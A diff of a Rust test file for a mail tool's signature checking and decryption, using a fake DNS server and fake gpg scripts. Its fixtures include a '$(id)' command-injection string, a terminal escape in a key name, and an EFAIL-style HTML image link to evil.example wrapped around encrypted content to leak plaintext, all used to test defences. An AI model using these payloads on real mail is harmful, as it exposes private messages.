@@ -1,8 +1,17 @@
-//! Who vouches for a message: what `parse --auth` makes of what servers wrote.
+//! Who vouches for a message: what servers wrote, what domains and people signed, and what is in an envelope.
+//!
+//! The name server is a thread of this test; gpg and gpgsm are scripts that say what the real ones said once. The real
+//! ones meet us in `tests/interop`.
 
 mod watchdog;
 
+use hickory_proto::op::{Message, OpCode, ResponseCode};
+use hickory_proto::rr::rdata::TXT;
+use hickory_proto::rr::{RData, Record, RecordType};
 use serde_json::Value;
+use std::net::UdpSocket;
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
 use std::process::{Command, Stdio};
 use std::time::Duration;
 
@@ -16,10 +25,15 @@ struct Run {
 /// `mailkit parse …` of this message.
 fn parse(message: &[u8], args: &[&str]) -> Run {
     let dir = tempfile::tempdir().expect("a directory");
-    std::fs::write(dir.path().join("message.eml"), message).expect("a file");
+    parse_in(dir.path(), message, args)
+}
+
+/// The same in a directory where programs lie.
+fn parse_in(dir: &Path, message: &[u8], args: &[&str]) -> Run {
+    std::fs::write(dir.join("message.eml"), message).expect("a file");
     let mut command = Command::new(env!("CARGO_BIN_EXE_mailkit"));
-    command.arg("parse").args(args).arg("message.eml").current_dir(dir.path());
-    command.env_clear().env("HOME", dir.path()).stdin(Stdio::null());
+    command.arg("parse").args(args).arg("message.eml").current_dir(dir);
+    command.env_clear().env("HOME", dir).env("PATH", dir).env("CANARY", "hunter2").stdin(Stdio::null());
     let _watch = watchdog::over(format!("parse {args:?}"), Duration::from_secs(120));
     let output = command.output().expect("it runs");
     let text = |octets| String::from_utf8(octets).expect("output is UTF-8");
@@ -68,4 +82,219 @@ fn a_message_that_nobody_checked_says_so_by_its_exit_code() {
     let run = parse(b"Subject: x\r\n\r\n", &["--auth"]);
     assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (1, "", ""));
     assert_eq!(parse(b"Subject: x\r\n\r\n", &["--trusted", "x"]).code, 64);
+}
+
+/// The message of RFC 8463, Appendix A.
+const SIGNED_BY_DOMAIN: &str = include_str!("messages/dkim/rfc8463.eml");
+
+/// A name server with the keys of that message.
+fn name_server(silent: bool) -> String {
+    const KEYS: [(&str, &[&str]); 2] = [
+        ("brisbane", &["v=DKIM1; k=ed25519; ", "p=11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo="]),
+        (
+            "test",
+            &[
+                "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQDkHlOQoBTzWRiGs5V6NpP3idY6Wk08a5qhdR6wy5bdOKb2",
+                "jLQiY/J16JYi0Qvx/byYzCNb3W91y3FutACDfzwQ/BC/e/8uBsCR+yz1Lxj+PL6lHvqMKrM3rG4hstT5QjvHO9PzoxZyVYLzBfO2Ee",
+                "C3Ip3G+2kryOTIKT+l/K4w3QIDAQAB",
+            ],
+        ),
+    ];
+    let socket = UdpSocket::bind("127.0.0.1:0").expect("a port");
+    let address = socket.local_addr().expect("an address").to_string();
+    std::thread::spawn(move || {
+        let mut buffer = [0; 1500];
+        while let Ok((count, from)) = socket.recv_from(&mut buffer) {
+            let asked = Message::from_vec(&buffer[..count]).expect("a question");
+            let query = asked.queries.first().expect("a question").clone();
+            let mut answer = Message::response(asked.metadata.id, OpCode::Query);
+            answer.add_query(query.clone());
+            let name = query.name().to_string();
+            let key = KEYS.iter().find(|(selector, _)| name == format!("{selector}._domainkey.football.example.com."));
+            match key.filter(|_| !silent && query.query_type() == RecordType::TXT) {
+                Some((_, texts)) => {
+                    let texts = texts.iter().map(ToString::to_string).collect();
+                    answer.add_answer(Record::from_rdata(query.name().clone(), 300, RData::TXT(TXT::new(texts))));
+                }
+                None => {
+                    answer.metadata.response_code = if silent { ResponseCode::ServFail } else { ResponseCode::NXDomain }
+                }
+            }
+            socket.send_to(&answer.to_vec().expect("it fits"), from).expect("sent");
+        }
+    });
+    address
+}
+
+#[test]
+fn signatures_of_domains_are_verified_with_keys_from_dns() {
+    let server = name_server(false);
+    let verify = ["--verify", "dkim", "--resolver", &server];
+    let run = parse(SIGNED_BY_DOMAIN.as_bytes(), &verify);
+    assert_eq!((run.code, run.stderr.as_str()), (0, ""), "{}", run.stdout);
+    let lines: Vec<&str> = run.stdout.lines().collect();
+    assert_eq!(
+        lines[..5],
+        [
+            "lines end with LF here; they are verified with CRLF, as they went over the wire",
+            "dkim: pass, signed by football.example.com: the signature is good",
+            "  ed25519-sha256 with the key brisbane",
+            "  on behalf of @football.example.com",
+            "  the domain is that of the author (From)",
+        ]
+    );
+    assert!(lines.contains(&"  rsa-sha256 with the key test of 1024 bits"), "{}", run.stdout);
+
+    let with_more = format!("Subject: Win!\n{SIGNED_BY_DOMAIN}");
+    let run = parse(with_more.as_bytes(), &[&verify[..], &["--json"]].concat());
+    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
+    // Whoever signs a field twice says that there is one only.
+    assert_eq!((run.code, object["verdict"].as_str()), (1, Some("fail")));
+    assert_eq!(object["dkim"][0]["alignment"], "same");
+
+    let run = parse(b"Subject: x\r\n\r\n", &["--verify", "dkim,arc", "--resolver", &server]);
+    let wanted = "dkim: none: no domain signed the message\narc: none: no server sealed the message\n";
+    assert_eq!((run.code, run.stdout.as_str()), (1, wanted));
+    let run = parse(SIGNED_BY_DOMAIN.as_bytes(), &["--verify", "dkim", "--resolver", &name_server(true)]);
+    assert_eq!(run.code, 75, "{}", run.stdout);
+    assert!(run.stdout.contains("dkim: temperror") && run.stdout.contains("Server Failure"), "{}", run.stdout);
+}
+
+/// A directory with a program that is called as one of GnuPG's, and writes down how.
+fn with_program(name: &str, script: &str) -> tempfile::TempDir {
+    let dir = tempfile::tempdir().expect("a directory");
+    let path = dir.path().join(name);
+    let script = format!(
+        "#!/bin/sh\nexport PATH=/usr/bin:/bin\nprintf '%s\\n' \"$@\" > arguments\ncat > input\n\
+         echo \"${{CANARY-no secret}}\" > canary\n{script}"
+    );
+    std::fs::write(&path, script).expect("a program");
+    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o700)).expect("it may run");
+    let config = dir.path().join(".config/mailkit");
+    std::fs::create_dir_all(&config).expect("a directory");
+    let account = "[accounts.x]\nemail = \"x@crepes.example\"\nimap = \"imaps://x@imap.crepes.example\"\nsecret = {env = \"CANARY\"}\n";
+    std::fs::write(config.join("config.toml"), account).expect("a configuration");
+    dir
+}
+
+fn read(dir: &tempfile::TempDir, name: &str) -> String {
+    std::fs::read_to_string(dir.path().join(name)).expect(name)
+}
+
+const SIGNED_BY_PERSON: &str = "From: Eve <eve@evil.example>\nContent-Type: multipart/mixed; boundary=m\n\n--m\n\
+    Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\n\n\
+    --s\nContent-Type: text/plain\n\nhi; $(id)\n--s\nContent-Type: application/pgp-signature\n\nsig\n--s--\n\
+    --m\n\nfooter\n--m--\n";
+
+/// What gpg 2.2 says.
+const GOOD: &str = "cat >&2 <<'X'\n[GNUPG:] NEWSIG\n\
+    [GNUPG:] GOODSIG E6C5259B176DD91E Alice %1B[2J<alice@crepes.example>\n\
+    [GNUPG:] VALIDSIG 0284F53CE306FFF1443CB977E6C5259B176DD91E 2026-11-22 1795307266 0 4 0 22 8 00 0284F53CE306FFF1443CB977E6C5259B176DD91E\n\
+    [GNUPG:] TRUST_UNDEFINED 0 pgp\nX\n";
+
+#[test]
+fn signatures_of_people_are_told_with_what_they_are_not_about() {
+    let dir = with_program("gpg", GOOD);
+    let run = parse_in(dir.path(), SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp,smime"]);
+    let wanted = "pgp: pass, part 1.1: the signature is good\n\
+        \x20 signed by Alice \\x1b[2J<alice@crepes.example>, key 0284F53CE306FFF1443CB977E6C5259B176DD91E\n\
+        \x20 made 2026-11-22T00:27:46Z\n\
+        \x20 nobody vouches that the key belongs to that name\n\
+        \x20 the author, eve@evil.example, is not named by the key\n\
+        \x20 not signed: the header fields of the message, as From, Subject and Date\n\
+        \x20 not signed: part 2\n";
+    assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (0, wanted, ""));
+    assert_eq!(read(&dir, "input"), "Content-Type: text/plain\r\n\r\nhi; $(id)");
+    assert_eq!(read(&dir, "canary"), "no secret\n");
+    let arguments = read(&dir, "arguments");
+    for wanted in ["--batch", "--no-auto-key-retrieve", "--disable-dirmngr", "--verify"] {
+        assert!(arguments.lines().any(|argument| argument == wanted), "{arguments}");
+    }
+    let run = parse_in(dir.path(), SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp", "--json"]);
+    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
+    let signed = &object["signed"][0];
+    assert_eq!((&signed["verdict"], &signed["signatures"][0]["names_author"]), (&"pass".into(), &false.into()));
+    assert_eq!((&signed["unsigned_parts"][0], &signed["header_signed"]), (&"2".into(), &false.into()));
+
+    for (script, wanted) in [
+        (GOOD.replace("GOODSIG", "BADSIG"), "what it is about was changed"),
+        (GOOD.replace("GOODSIG", "EXPKEYSIG"), "its key has expired"),
+        (GOOD.replace("TRUST_UNDEFINED", "TRUST_NEVER"), "marked as not to be trusted"),
+        (format!("{GOOD}exit 2\n"), "yet the program is not content"),
+        ("exit 2\n".to_owned(), "fail, part 1.1: no reason was given"),
+        // Only lines that begin so are gpg's: the name of a key could hold anything.
+        (GOOD.replace("[GNUPG:] ", "gpg: [GNUPG:] "), "fail, part 1.1: no reason was given"),
+    ] {
+        let run = parse_in(with_program("gpg", &script).path(), SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp"]);
+        assert_eq!(run.code, 1, "{script}");
+        assert!(run.stdout.contains(wanted), "{}", run.stdout);
+    }
+    let nobody = parse_in(dir.path(), b"Subject: x\n\nhi\n", &["--verify", "pgp"]);
+    assert_eq!((nobody.code, nobody.stdout.as_str()), (1, "pgp: none: nobody signed the message\n"));
+    let absent = parse(SIGNED_BY_PERSON.as_bytes(), &["--verify", "pgp"]);
+    assert_eq!((absent.code, absent.stdout.as_str()), (69, ""));
+    assert!(absent.stderr.contains("install it"), "{}", absent.stderr);
+}
+
+#[test]
+fn a_certificate_that_nobody_vouches_for_is_nobodys() {
+    let message = SIGNED_BY_PERSON.replace("pgp-signature", "pkcs7-signature");
+    let good = GOOD.replace(">&2", "").replace("Alice %1B[2J<alice@crepes.example>", "/CN=Eve/EMail=eve@evil.example");
+    for (trust, code) in [("TRUST_FULLY", 0), ("TRUST_UNDEFINED", 1)] {
+        let dir = with_program("gpgsm", &good.replace("TRUST_UNDEFINED", trust));
+        let run = parse_in(dir.path(), message.as_bytes(), &["--verify", "smime"]);
+        assert_eq!(run.code, code, "{}", run.stdout);
+        assert!(run.stdout.contains("revoked was not asked"), "{}", run.stdout);
+        assert!(read(&dir, "arguments").contains("--disable-dirmngr"));
+        assert_eq!(run.stdout.contains("not named by the key"), false);
+    }
+}
+
+const ENCRYPTED: &str = "From: Alice <alice@crepes.example>\nSubject: outer\nContent-Type: multipart/mixed; boundary=m\n\n\
+    --m\nContent-Type: text/html\n\n<img src=\"https://evil.example/?\n\
+    --m\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\n\n\
+    --e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\
+    --e\nContent-Type: application/octet-stream\n\nsealed\n--e--\n--m\nContent-Type: text/html\n\n\">\n--m--\n";
+
+/// What gpg 2.2 says to an envelope.
+const OPEN: &str = "printf 'Content-Type: multipart/mixed; boundary=i\\n\\n--i\\n\\nthe secret\\n--i\\nContent-Type: \
+    application/pdf; name=a.pdf\\n\\npdf\\n--i--\\n'\ncat >&2 <<'X'\n[GNUPG:] BEGIN_DECRYPTION\n[GNUPG:] PLAINTEXT 62 1795307266 \n\
+    [GNUPG:] DECRYPTION_OKAY\n[GNUPG:] GOODMDC\n[GNUPG:] END_DECRYPTION\nX\n";
+
+#[test]
+fn what_was_encrypted_is_read_without_anything_around_it() {
+    let dir = with_program("gpg", &format!("{GOOD}{OPEN}"));
+    let open = |args: &[&str]| parse_in(dir.path(), ENCRYPTED.as_bytes(), &[&["--decrypt"], args].concat());
+    let run = open(&["--text"]);
+    assert_eq!((run.code, run.stdout.trim_end()), (0, "the secret"));
+    assert_eq!(read(&dir, "input").trim_end(), "sealed");
+    assert!(run.stderr.contains("not encrypted, and not shown with what is: part 1, 3"), "{}", run.stderr);
+    assert!(run.stderr.contains("what was encrypted in part 2.2: the signature is good"), "{}", run.stderr);
+    let run = open(&["--json"]);
+    let object: Value = serde_json::from_str(&run.stdout).expect("JSON");
+    assert_eq!((object["subject"].as_str(), object["attachments"][0].as_str()), (Some("outer"), Some("2")));
+    assert!(!run.stdout.contains("evil.example"), "{}", run.stdout);
+    let run = open(&["-x", "out"]);
+    assert_eq!((run.code, run.stdout.as_str()), (0, "out/a.pdf\n"));
+    assert_eq!(open(&["-O", "2"]).stdout, "pdf");
+    let run = open(&["--verify", "pgp"]);
+    assert!(run.code == 0 && run.stdout.starts_with("pgp: pass, what was encrypted in part 2.2"), "{}", run.stdout);
+    let run = parse_in(dir.path(), b"Subject: x\n\nhi\n", &["--decrypt"]);
+    assert_eq!((run.code, run.stdout.as_str()), (1, ""));
+}
+
+#[test]
+fn what_was_changed_or_glued_together_is_not_shown() {
+    for (script, code, wanted) in [
+        (OPEN.replace("DECRYPTION_OKAY", "DECRYPTION_FAILED"), 65, "or was changed since"),
+        (OPEN.replace("GOODMDC", "BADMDC"), 65, "or was changed since"),
+        (OPEN.replace("[GNUPG:] DECR", "[GNUPG:] PLAINTEXT 62 0 \n[GNUPG:] DECR"), 65, "glued together"),
+        (OPEN.replace("DECRYPTION_OKAY", "NO_SECKEY 0E99CF09976FCB03"), 78, "the key to it is not here"),
+        ("exit 2".to_owned(), 65, "cannot be decrypted"),
+    ] {
+        let dir = with_program("gpg", &script);
+        let run = parse_in(dir.path(), ENCRYPTED.as_bytes(), &["--decrypt", "--text"]);
+        assert_eq!((run.code, run.stdout.as_str()), (code, ""), "{script}");
+        assert!(run.stderr.contains(wanted), "{}", run.stderr);
+    }
 }
